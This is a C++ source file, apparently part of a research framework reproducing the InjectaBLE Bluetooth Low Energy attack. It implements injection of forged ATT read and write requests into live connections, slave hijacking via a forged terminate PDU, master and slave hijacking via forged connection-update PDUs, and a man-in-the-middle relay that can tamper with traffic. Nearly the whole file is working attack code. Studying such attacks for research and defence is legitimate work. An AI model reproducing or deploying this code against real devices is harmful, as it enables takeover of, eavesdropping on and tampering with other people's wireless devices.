#include "core/scenarios.hpp"

#include "common/log.hpp"
#include "core/forge.hpp"

namespace injectable {

using namespace ble;

// --- EmulatedEndpoint ---

EmulatedEndpoint::EmulatedEndpoint(AttackerRadio& radio, link::ConnectionConfig config,
                                   Upper upper, att::AttServer* server)
    : radio_(radio), upper_(upper), server_(server) {
    link::ConnectionHooks hooks;
    hooks.on_data = [this](const link::DataPduView& pdu) {
        if (l2cap_) l2cap_->handle_ll_pdu(pdu);
    };
    hooks.on_disconnected = [this](link::DisconnectReason reason) {
        if (on_disconnected) on_disconnected(reason);
    };
    hooks.on_event_closed = [this](const link::ConnectionEventReport& report) {
        if (on_event) on_event(report);
    };
    connection_ = std::make_unique<link::Connection>(radio_, std::move(config),
                                                     std::move(hooks));

    if (upper_ == Upper::kClient) {
        client_ = std::make_unique<att::AttClient>([this](const att::AttPdu& pdu) {
            if (l2cap_) l2cap_->send(host::kAttCid, pdu.serialize());
        });
    }

    l2cap_ = std::make_unique<host::L2capChannel>(
        27,
        [this](link::Llid llid, Bytes fragment) {
            connection_->send_data(llid, std::move(fragment));
        },
        [this](std::uint16_t cid, BytesView sdu) {
            if (on_sdu) on_sdu(cid, sdu);
            if (cid != host::kAttCid) return;
            const auto pdu = att::AttPdu::parse(sdu);
            if (!pdu) return;
            switch (upper_) {
                case Upper::kServer:
                    if (server_ != nullptr) {
                        if (const auto rsp = server_->handle_pdu(*pdu)) {
                            l2cap_->send(host::kAttCid, rsp->serialize());
                        }
                    }
                    break;
                case Upper::kClient:
                    client_->handle_pdu(*pdu);
                    break;
                case Upper::kTap:
                    break;
            }
        });

    radio_.rx_handler = [this](const sim::RxFrame& frame) { connection_->handle_rx(frame); };
    radio_.tx_handler = [this] { connection_->handle_tx_complete(); };
}

EmulatedEndpoint::~EmulatedEndpoint() {
    radio_.rx_handler = nullptr;
    radio_.tx_handler = nullptr;
}

void EmulatedEndpoint::resume(TimePoint next_anchor) { connection_->resume(next_anchor); }

void EmulatedEndpoint::send_sdu(std::uint16_t cid, BytesView sdu) { l2cap_->send(cid, sdu); }

void EmulatedEndpoint::notify(std::uint16_t handle, BytesView value) {
    l2cap_->send(host::kAttCid, att::make_notification(handle, value).serialize());
}

// --- Scenario A ---

void ScenarioA::inject_write(std::uint16_t handle, Bytes value,
                             std::function<void(const Result&)> done, bool command,
                             int max_attempts) {
    const att::AttPdu pdu = command ? att::make_write_cmd(handle, value)
                                    : att::make_write_req(handle, value);
    AttackSession::InjectionRequest request;
    request.llid = link::Llid::kDataStart;
    request.payload = att_over_l2cap(pdu);
    request.max_attempts = max_attempts;
    request.done = [done = std::move(done)](bool ok, int attempts) {
        if (done) done(Result{ok, attempts});
    };
    session_.inject(std::move(request));
}

void ScenarioA::inject_read(std::uint16_t handle,
                            std::function<void(const Result&, std::optional<Bytes>)> done,
                            int max_attempts) {
    // Arm the response capture *before* injecting: a fast slave answers in
    // the very event that carried the injected Read Request (the session
    // reports that response as a sniffed slave frame), and a slower one
    // answers in a later slave frame addressed to the legitimate master —
    // either way the attacker overhears it.
    reassembly_.clear();
    saved_packet_handler_ = session_.on_packet;

    struct ReadState {
        Result result;
        bool injection_done = false;
        std::optional<Bytes> captured;
        bool finished = false;
        int deadline = 40;  // slave frames to wait after a successful injection
    };
    auto state = std::make_shared<ReadState>();

    auto finish = [this, done, state](std::optional<Bytes> value) {
        if (state->finished) return;
        state->finished = true;
        const Result result = state->result;  // copy before handler swap
        session_.on_packet = saved_packet_handler_;  // may destroy the caller
        if (done) done(result, std::move(value));
    };

    session_.on_packet = [this, state, finish](const SniffedPacket& packet) {
        if (saved_packet_handler_) saved_packet_handler_(packet);
        if (state->finished) return;
        if (packet.sender != SniffedPacket::Sender::kSlave || !packet.crc_ok) return;
        if (state->injection_done && state->result.success && --state->deadline <= 0) {
            finish(std::nullopt);
            return;
        }
        if (packet.pdu.llid == link::Llid::kDataStart) {
            reassembly_ = packet.pdu.payload;
        } else if (packet.pdu.llid == link::Llid::kDataContinuation &&
                   !packet.pdu.payload.empty() && !reassembly_.empty()) {
            reassembly_.insert(reassembly_.end(), packet.pdu.payload.begin(),
                               packet.pdu.payload.end());
        } else {
            return;
        }
        // L2CAP header + ATT Read Response?
        if (reassembly_.size() < 5) return;
        ByteReader reader(reassembly_);
        const std::uint16_t len = *reader.read_u16();
        const std::uint16_t cid = *reader.read_u16();
        if (cid != host::kAttCid || reassembly_.size() < 4u + len) return;
        const auto att_pdu = att::AttPdu::parse(BytesView(reassembly_.data() + 4, len));
        if (!att_pdu || att_pdu->opcode != att::Opcode::kReadRsp) return;
        state->captured = att_pdu->params;
        // The response can precede the injection verdict (same event); only
        // finish once the request callback confirmed the injection.
        if (state->injection_done) finish(state->captured);
    };

    AttackSession::InjectionRequest request;
    request.llid = link::Llid::kDataStart;
    request.payload = att_over_l2cap(att::make_read_req(handle));
    request.max_attempts = max_attempts;
    request.done = [state, finish](bool ok, int attempts) {
        state->result.success = ok;
        state->result.attempts = attempts;
        state->injection_done = true;
        if (!ok) {
            finish(std::nullopt);
        } else if (state->captured) {
            finish(state->captured);
        }
    };
    session_.inject(std::move(request));
}

// --- Scenario B ---

void ScenarioB::execute(std::function<void(const Result&)> done, int max_attempts) {
    AttackSession::InjectionRequest request;
    request.llid = link::Llid::kControl;
    request.payload = link::TerminateInd{0x13}.to_control().serialize();
    request.max_attempts = max_attempts;
    request.done = [this, done = std::move(done)](bool ok, int attempts) {
        const Result result{ok, attempts};
        if (!ok) {
            if (done) done(result);
            return;
        }
        // The real slave acked our LL_TERMINATE_IND and left. Take its seat:
        // continue its flow-control state, hopping state and cadence.
        const auto& report = *session_.last_attempt();
        const bool rsp_sn = *report.observation.slave_sn;
        const bool rsp_nesn = *report.observation.slave_nesn;

        link::ConnectionConfig cfg;
        cfg.role = link::Role::kSlave;
        cfg.params = session_.params();
        cfg.own_sca_ppm = session_.radio().sleep_clock().sca_ppm();
        cfg.initial_event_counter = static_cast<std::uint16_t>(session_.event_counter() + 1);
        // The departed slave's final response carried (SN', NESN'); at the
        // next event the master expects a slave whose SN advanced past SN'
        // and whose NESN still acknowledges the master's last frame.
        cfg.initial_sn = !rsp_sn;
        cfg.initial_nesn = rsp_nesn;
        cfg.selector = session_.clone_selector();

        // The slave anchored on *our* injected frame, but the master keeps
        // timing events off its own transmissions — one widening later.
        const TimePoint next_anchor = session_.last_anchor() +
                                      session_.estimated_widening() +
                                      session_.params().interval();
        AttackerRadio& radio = session_.radio();
        session_.stop();
        endpoint_ = std::make_unique<EmulatedEndpoint>(radio, std::move(cfg),
                                                       EmulatedEndpoint::Upper::kServer,
                                                       &fake_server_);
        endpoint_->resume(next_anchor);
        BLE_LOG_INFO("scenario B: slave role hijacked after ", attempts, " attempt(s)");
        if (done) done(result);
    };
    session_.inject(std::move(request));
}

// --- Scenario C ---

link::ConnectionUpdateInd forge_connection_update(const link::ConnectionParams& current,
                                                  std::uint16_t instant,
                                                  std::uint16_t win_offset,
                                                  std::uint16_t new_interval) {
    link::ConnectionUpdateInd update;
    update.win_size = 1;
    update.win_offset = win_offset;
    update.interval = new_interval != 0 ? new_interval : current.hop_interval;
    update.latency = 0;
    update.timeout = current.timeout;
    update.instant = instant;
    return update;
}

void ScenarioC::execute(std::function<void(const Result&)> done) {
    done_ = std::move(done);
    result_ = Result{};

    // Each attempt re-forges the update with a fresh instant: a stale instant
    // (already reached) would be silently ignored by the slave.
    std::function<void()> try_once = [this]() {
        if (result_.attempts >= config_.max_attempts) {
            if (done_) done_(result_);
            return;
        }
        instant_ = static_cast<std::uint16_t>(session_.event_counter() +
                                              config_.instant_delta);
        update_ = forge_connection_update(session_.params(), instant_, config_.win_offset,
                                          config_.new_interval);
        AttackSession::InjectionRequest request;
        request.llid = link::Llid::kControl;
        request.payload = update_.to_control().serialize();
        request.max_attempts = 1;
        request.done = [this](bool ok, int attempts) {
            result_.attempts += attempts;
            if (!ok) {
                // Defer the retry out of the completion callback.
                // injectable-lint: allow(D4) -- immediate one-shot retry hop
                (void)session_.radio().scheduler().schedule_after(0, [this] { retry_(); });
                return;
            }
            result_.instant = instant_;
            // Follow until the instant, then take the master's seat.
            session_.on_event_advanced = [this](std::uint16_t counter) {
                if (counter == instant_) become_master();
            };
        };
        session_.inject(std::move(request));
    };
    retry_ = try_once;
    try_once();
}

void ScenarioC::become_master() {
    // Called right after the session advanced to `instant_` (the update
    // event): the slave is now waiting in the attacker-chosen window.
    const auto bits = session_.slave_bits();
    const auto params = session_.params();

    link::ConnectionConfig cfg;
    cfg.role = link::Role::kMaster;
    cfg.params = params;
    cfg.params.win_size = update_.win_size;
    cfg.params.win_offset = update_.win_offset;
    cfg.params.hop_interval = update_.interval;
    cfg.params.latency = update_.latency;
    cfg.params.timeout = update_.timeout;
    cfg.own_sca_ppm = session_.radio().sleep_clock().sca_ppm();
    cfg.initial_event_counter = instant_;
    if (bits) {
        cfg.initial_sn = bits->second;   // SN the slave expects next
        cfg.initial_nesn = !bits->first; // acks the slave's last frame
    }
    cfg.selector = session_.clone_selector();

    const Duration delay = params.interval() + kTransmitWindowDelayUncoded +
                           static_cast<Duration>(update_.win_offset) * kUnit1250us;
    const TimePoint next_anchor =
        session_.last_anchor() + session_.radio().sleep_clock().to_global(delay);

    AttackerRadio& radio = session_.radio();
    session_.stop();
    endpoint_ = std::make_unique<EmulatedEndpoint>(radio, std::move(cfg),
                                                   EmulatedEndpoint::Upper::kClient);
    endpoint_->on_event = [this](const link::ConnectionEventReport& report) {
        if (!result_.success && report.pdus_rx > 0) {
            result_.success = true;
            BLE_LOG_INFO("scenario C: master role hijacked (slave answers the attacker)");
            if (done_) done_(result_);
        }
    };
    endpoint_->on_disconnected = [this](link::DisconnectReason) {
        if (!result_.success && done_) done_(result_);
    };
    endpoint_->resume(next_anchor);
}

// --- Scenario C, slave-role variant ---

void ScenarioCSlave::execute(std::function<void(const Result&)> done) {
    done_ = std::move(done);
    result_ = Result{};
    std::function<void()> try_once = [this]() {
        if (result_.attempts >= config_.max_attempts) {
            if (done_) done_(result_);
            return;
        }
        instant_ = static_cast<std::uint16_t>(session_.event_counter() +
                                              config_.instant_delta);
        update_ = forge_connection_update(session_.params(), instant_, config_.win_offset,
                                          config_.new_interval);
        AttackSession::InjectionRequest request;
        request.llid = link::Llid::kControl;
        request.payload = update_.to_control().serialize();
        request.max_attempts = 1;
        request.done = [this](bool ok, int attempts) {
            result_.attempts += attempts;
            if (!ok) {
                // injectable-lint: allow(D4) -- immediate one-shot retry hop
                (void)session_.radio().scheduler().schedule_after(0, [this] { retry_(); });
                return;
            }
            session_.on_event_advanced = [this](std::uint16_t counter) {
                if (counter == instant_) become_slave();
            };
        };
        session_.inject(std::move(request));
    };
    retry_ = try_once;
    try_once();
}

void ScenarioCSlave::become_slave() {
    // The real slave obeys the forged update and waits at the new window;
    // nobody will ever serve it. We keep the *old* cadence and answer the
    // legitimate master in the real slave's place.
    const auto master_bits = session_.master_bits();
    const auto params = session_.params();  // session never applied our update

    link::ConnectionConfig cfg;
    cfg.role = link::Role::kSlave;
    cfg.params = params;
    cfg.own_sca_ppm = session_.radio().sleep_clock().sca_ppm();
    cfg.initial_event_counter = instant_;
    if (master_bits) {
        cfg.initial_sn = !master_bits->second;
        cfg.initial_nesn = !master_bits->first;
    }
    cfg.selector = session_.clone_selector();

    const TimePoint next_anchor =
        session_.last_anchor() + session_.radio().sleep_clock().to_global(params.interval());
    AttackerRadio& radio = session_.radio();
    session_.stop();
    endpoint_ = std::make_unique<EmulatedEndpoint>(radio, std::move(cfg),
                                                   EmulatedEndpoint::Upper::kServer,
                                                   &fake_server_);
    endpoint_->on_event = [this](const link::ConnectionEventReport& report) {
        if (!result_.success && report.anchor_observed) {
            result_.success = true;
            BLE_LOG_INFO(
                "scenario C': slave seat taken via forged update (real slave starved)");
            if (done_) done_(result_);
        }
    };
    endpoint_->on_disconnected = [this](link::DisconnectReason) {
        if (!result_.success && done_) done_(result_);
    };
    endpoint_->resume(next_anchor);
}

// --- Scenario D ---

void ScenarioD::execute(std::function<void(const Result&)> done) {
    done_ = std::move(done);
    result_ = Result{};

    std::function<void()> try_once = [this]() {
        if (result_.attempts >= config_.max_attempts) {
            if (done_) done_(result_);
            return;
        }
        instant_ = static_cast<std::uint16_t>(session_.event_counter() +
                                              config_.instant_delta);
        update_ = forge_connection_update(session_.params(), instant_, config_.win_offset,
                                          config_.new_interval);
        AttackSession::InjectionRequest request;
        request.llid = link::Llid::kControl;
        request.payload = update_.to_control().serialize();
        request.max_attempts = 1;
        request.done = [this](bool ok, int attempts) {
            result_.attempts += attempts;
            if (!ok) {
                // injectable-lint: allow(D4) -- immediate one-shot retry hop
                (void)session_.radio().scheduler().schedule_after(0, [this] { retry_(); });
                return;
            }
            session_.on_event_advanced = [this](std::uint16_t counter) {
                if (counter == instant_) split_connection();
            };
        };
        session_.inject(std::move(request));
    };
    retry_ = try_once;
    try_once();
}

void ScenarioD::relay(EmulatedEndpoint& to, std::uint16_t cid, BytesView sdu,
                      bool from_master) {
    if (!tamper) {
        to.send_sdu(cid, sdu);
        return;
    }
    if (const std::optional<Bytes> out = tamper(Bytes(sdu.begin(), sdu.end()), from_master)) {
        to.send_sdu(cid, *out);
    }
}

void ScenarioD::split_connection() {
    const auto slave_bits = session_.slave_bits();
    const auto master_bits = session_.master_bits();
    const auto params = session_.params();

    // Half 1: attacker as master towards the real slave (new window/params).
    link::ConnectionConfig to_slave;
    to_slave.role = link::Role::kMaster;
    to_slave.params = params;
    to_slave.params.win_size = update_.win_size;
    to_slave.params.win_offset = update_.win_offset;
    to_slave.params.hop_interval = update_.interval;
    to_slave.params.latency = update_.latency;
    to_slave.params.timeout = update_.timeout;
    to_slave.own_sca_ppm = session_.radio().sleep_clock().sca_ppm();
    to_slave.initial_event_counter = instant_;
    if (slave_bits) {
        to_slave.initial_sn = slave_bits->second;
        to_slave.initial_nesn = !slave_bits->first;
    }
    to_slave.selector = session_.clone_selector();

    // Half 2: attacker as slave towards the real master (old cadence).
    link::ConnectionConfig to_master;
    to_master.role = link::Role::kSlave;
    to_master.params = params;
    to_master.own_sca_ppm = slave_radio_.sleep_clock().sca_ppm();
    to_master.initial_event_counter = instant_;
    if (master_bits) {
        to_master.initial_sn = !master_bits->second;
        to_master.initial_nesn = !master_bits->first;
    }
    to_master.selector = session_.clone_selector();

    const Duration new_delay = params.interval() + kTransmitWindowDelayUncoded +
                               static_cast<Duration>(update_.win_offset) * kUnit1250us;
    const TimePoint slave_side_anchor =
        session_.last_anchor() + session_.radio().sleep_clock().to_global(new_delay);
    const TimePoint master_side_anchor =
        session_.last_anchor() + slave_radio_.sleep_clock().to_global(params.interval());

    AttackerRadio& radio = session_.radio();
    session_.stop();

    master_side_ = std::make_unique<EmulatedEndpoint>(radio, std::move(to_slave),
                                                      EmulatedEndpoint::Upper::kTap);
    slave_side_ = std::make_unique<EmulatedEndpoint>(slave_radio_, std::move(to_master),
                                                     EmulatedEndpoint::Upper::kTap);

    // The relay: every SDU crossing the attacker runs through `tamper`.
    master_side_->on_sdu = [this](std::uint16_t cid, BytesView sdu) {
        relay(*slave_side_, cid, sdu, /*from_master=*/false);
    };
    slave_side_->on_sdu = [this](std::uint16_t cid, BytesView sdu) {
        relay(*master_side_, cid, sdu, /*from_master=*/true);
    };

    auto anchored = std::make_shared<std::pair<bool, bool>>(false, false);
    auto check = [this, anchored] {
        if (!result_.success && anchored->first && anchored->second) {
            result_.success = true;
            BLE_LOG_INFO("scenario D: man-in-the-middle established");
            if (done_) done_(result_);
        }
    };
    master_side_->on_event = [anchored, check](const link::ConnectionEventReport& r) {
        if (r.pdus_rx > 0) anchored->first = true;
        check();
    };
    slave_side_->on_event = [anchored, check](const link::ConnectionEventReport& r) {
        if (r.anchor_observed) anchored->second = true;
        check();
    };

    master_side_->resume(slave_side_anchor);
    slave_side_->resume(master_side_anchor);
}

}  // namespace injectable
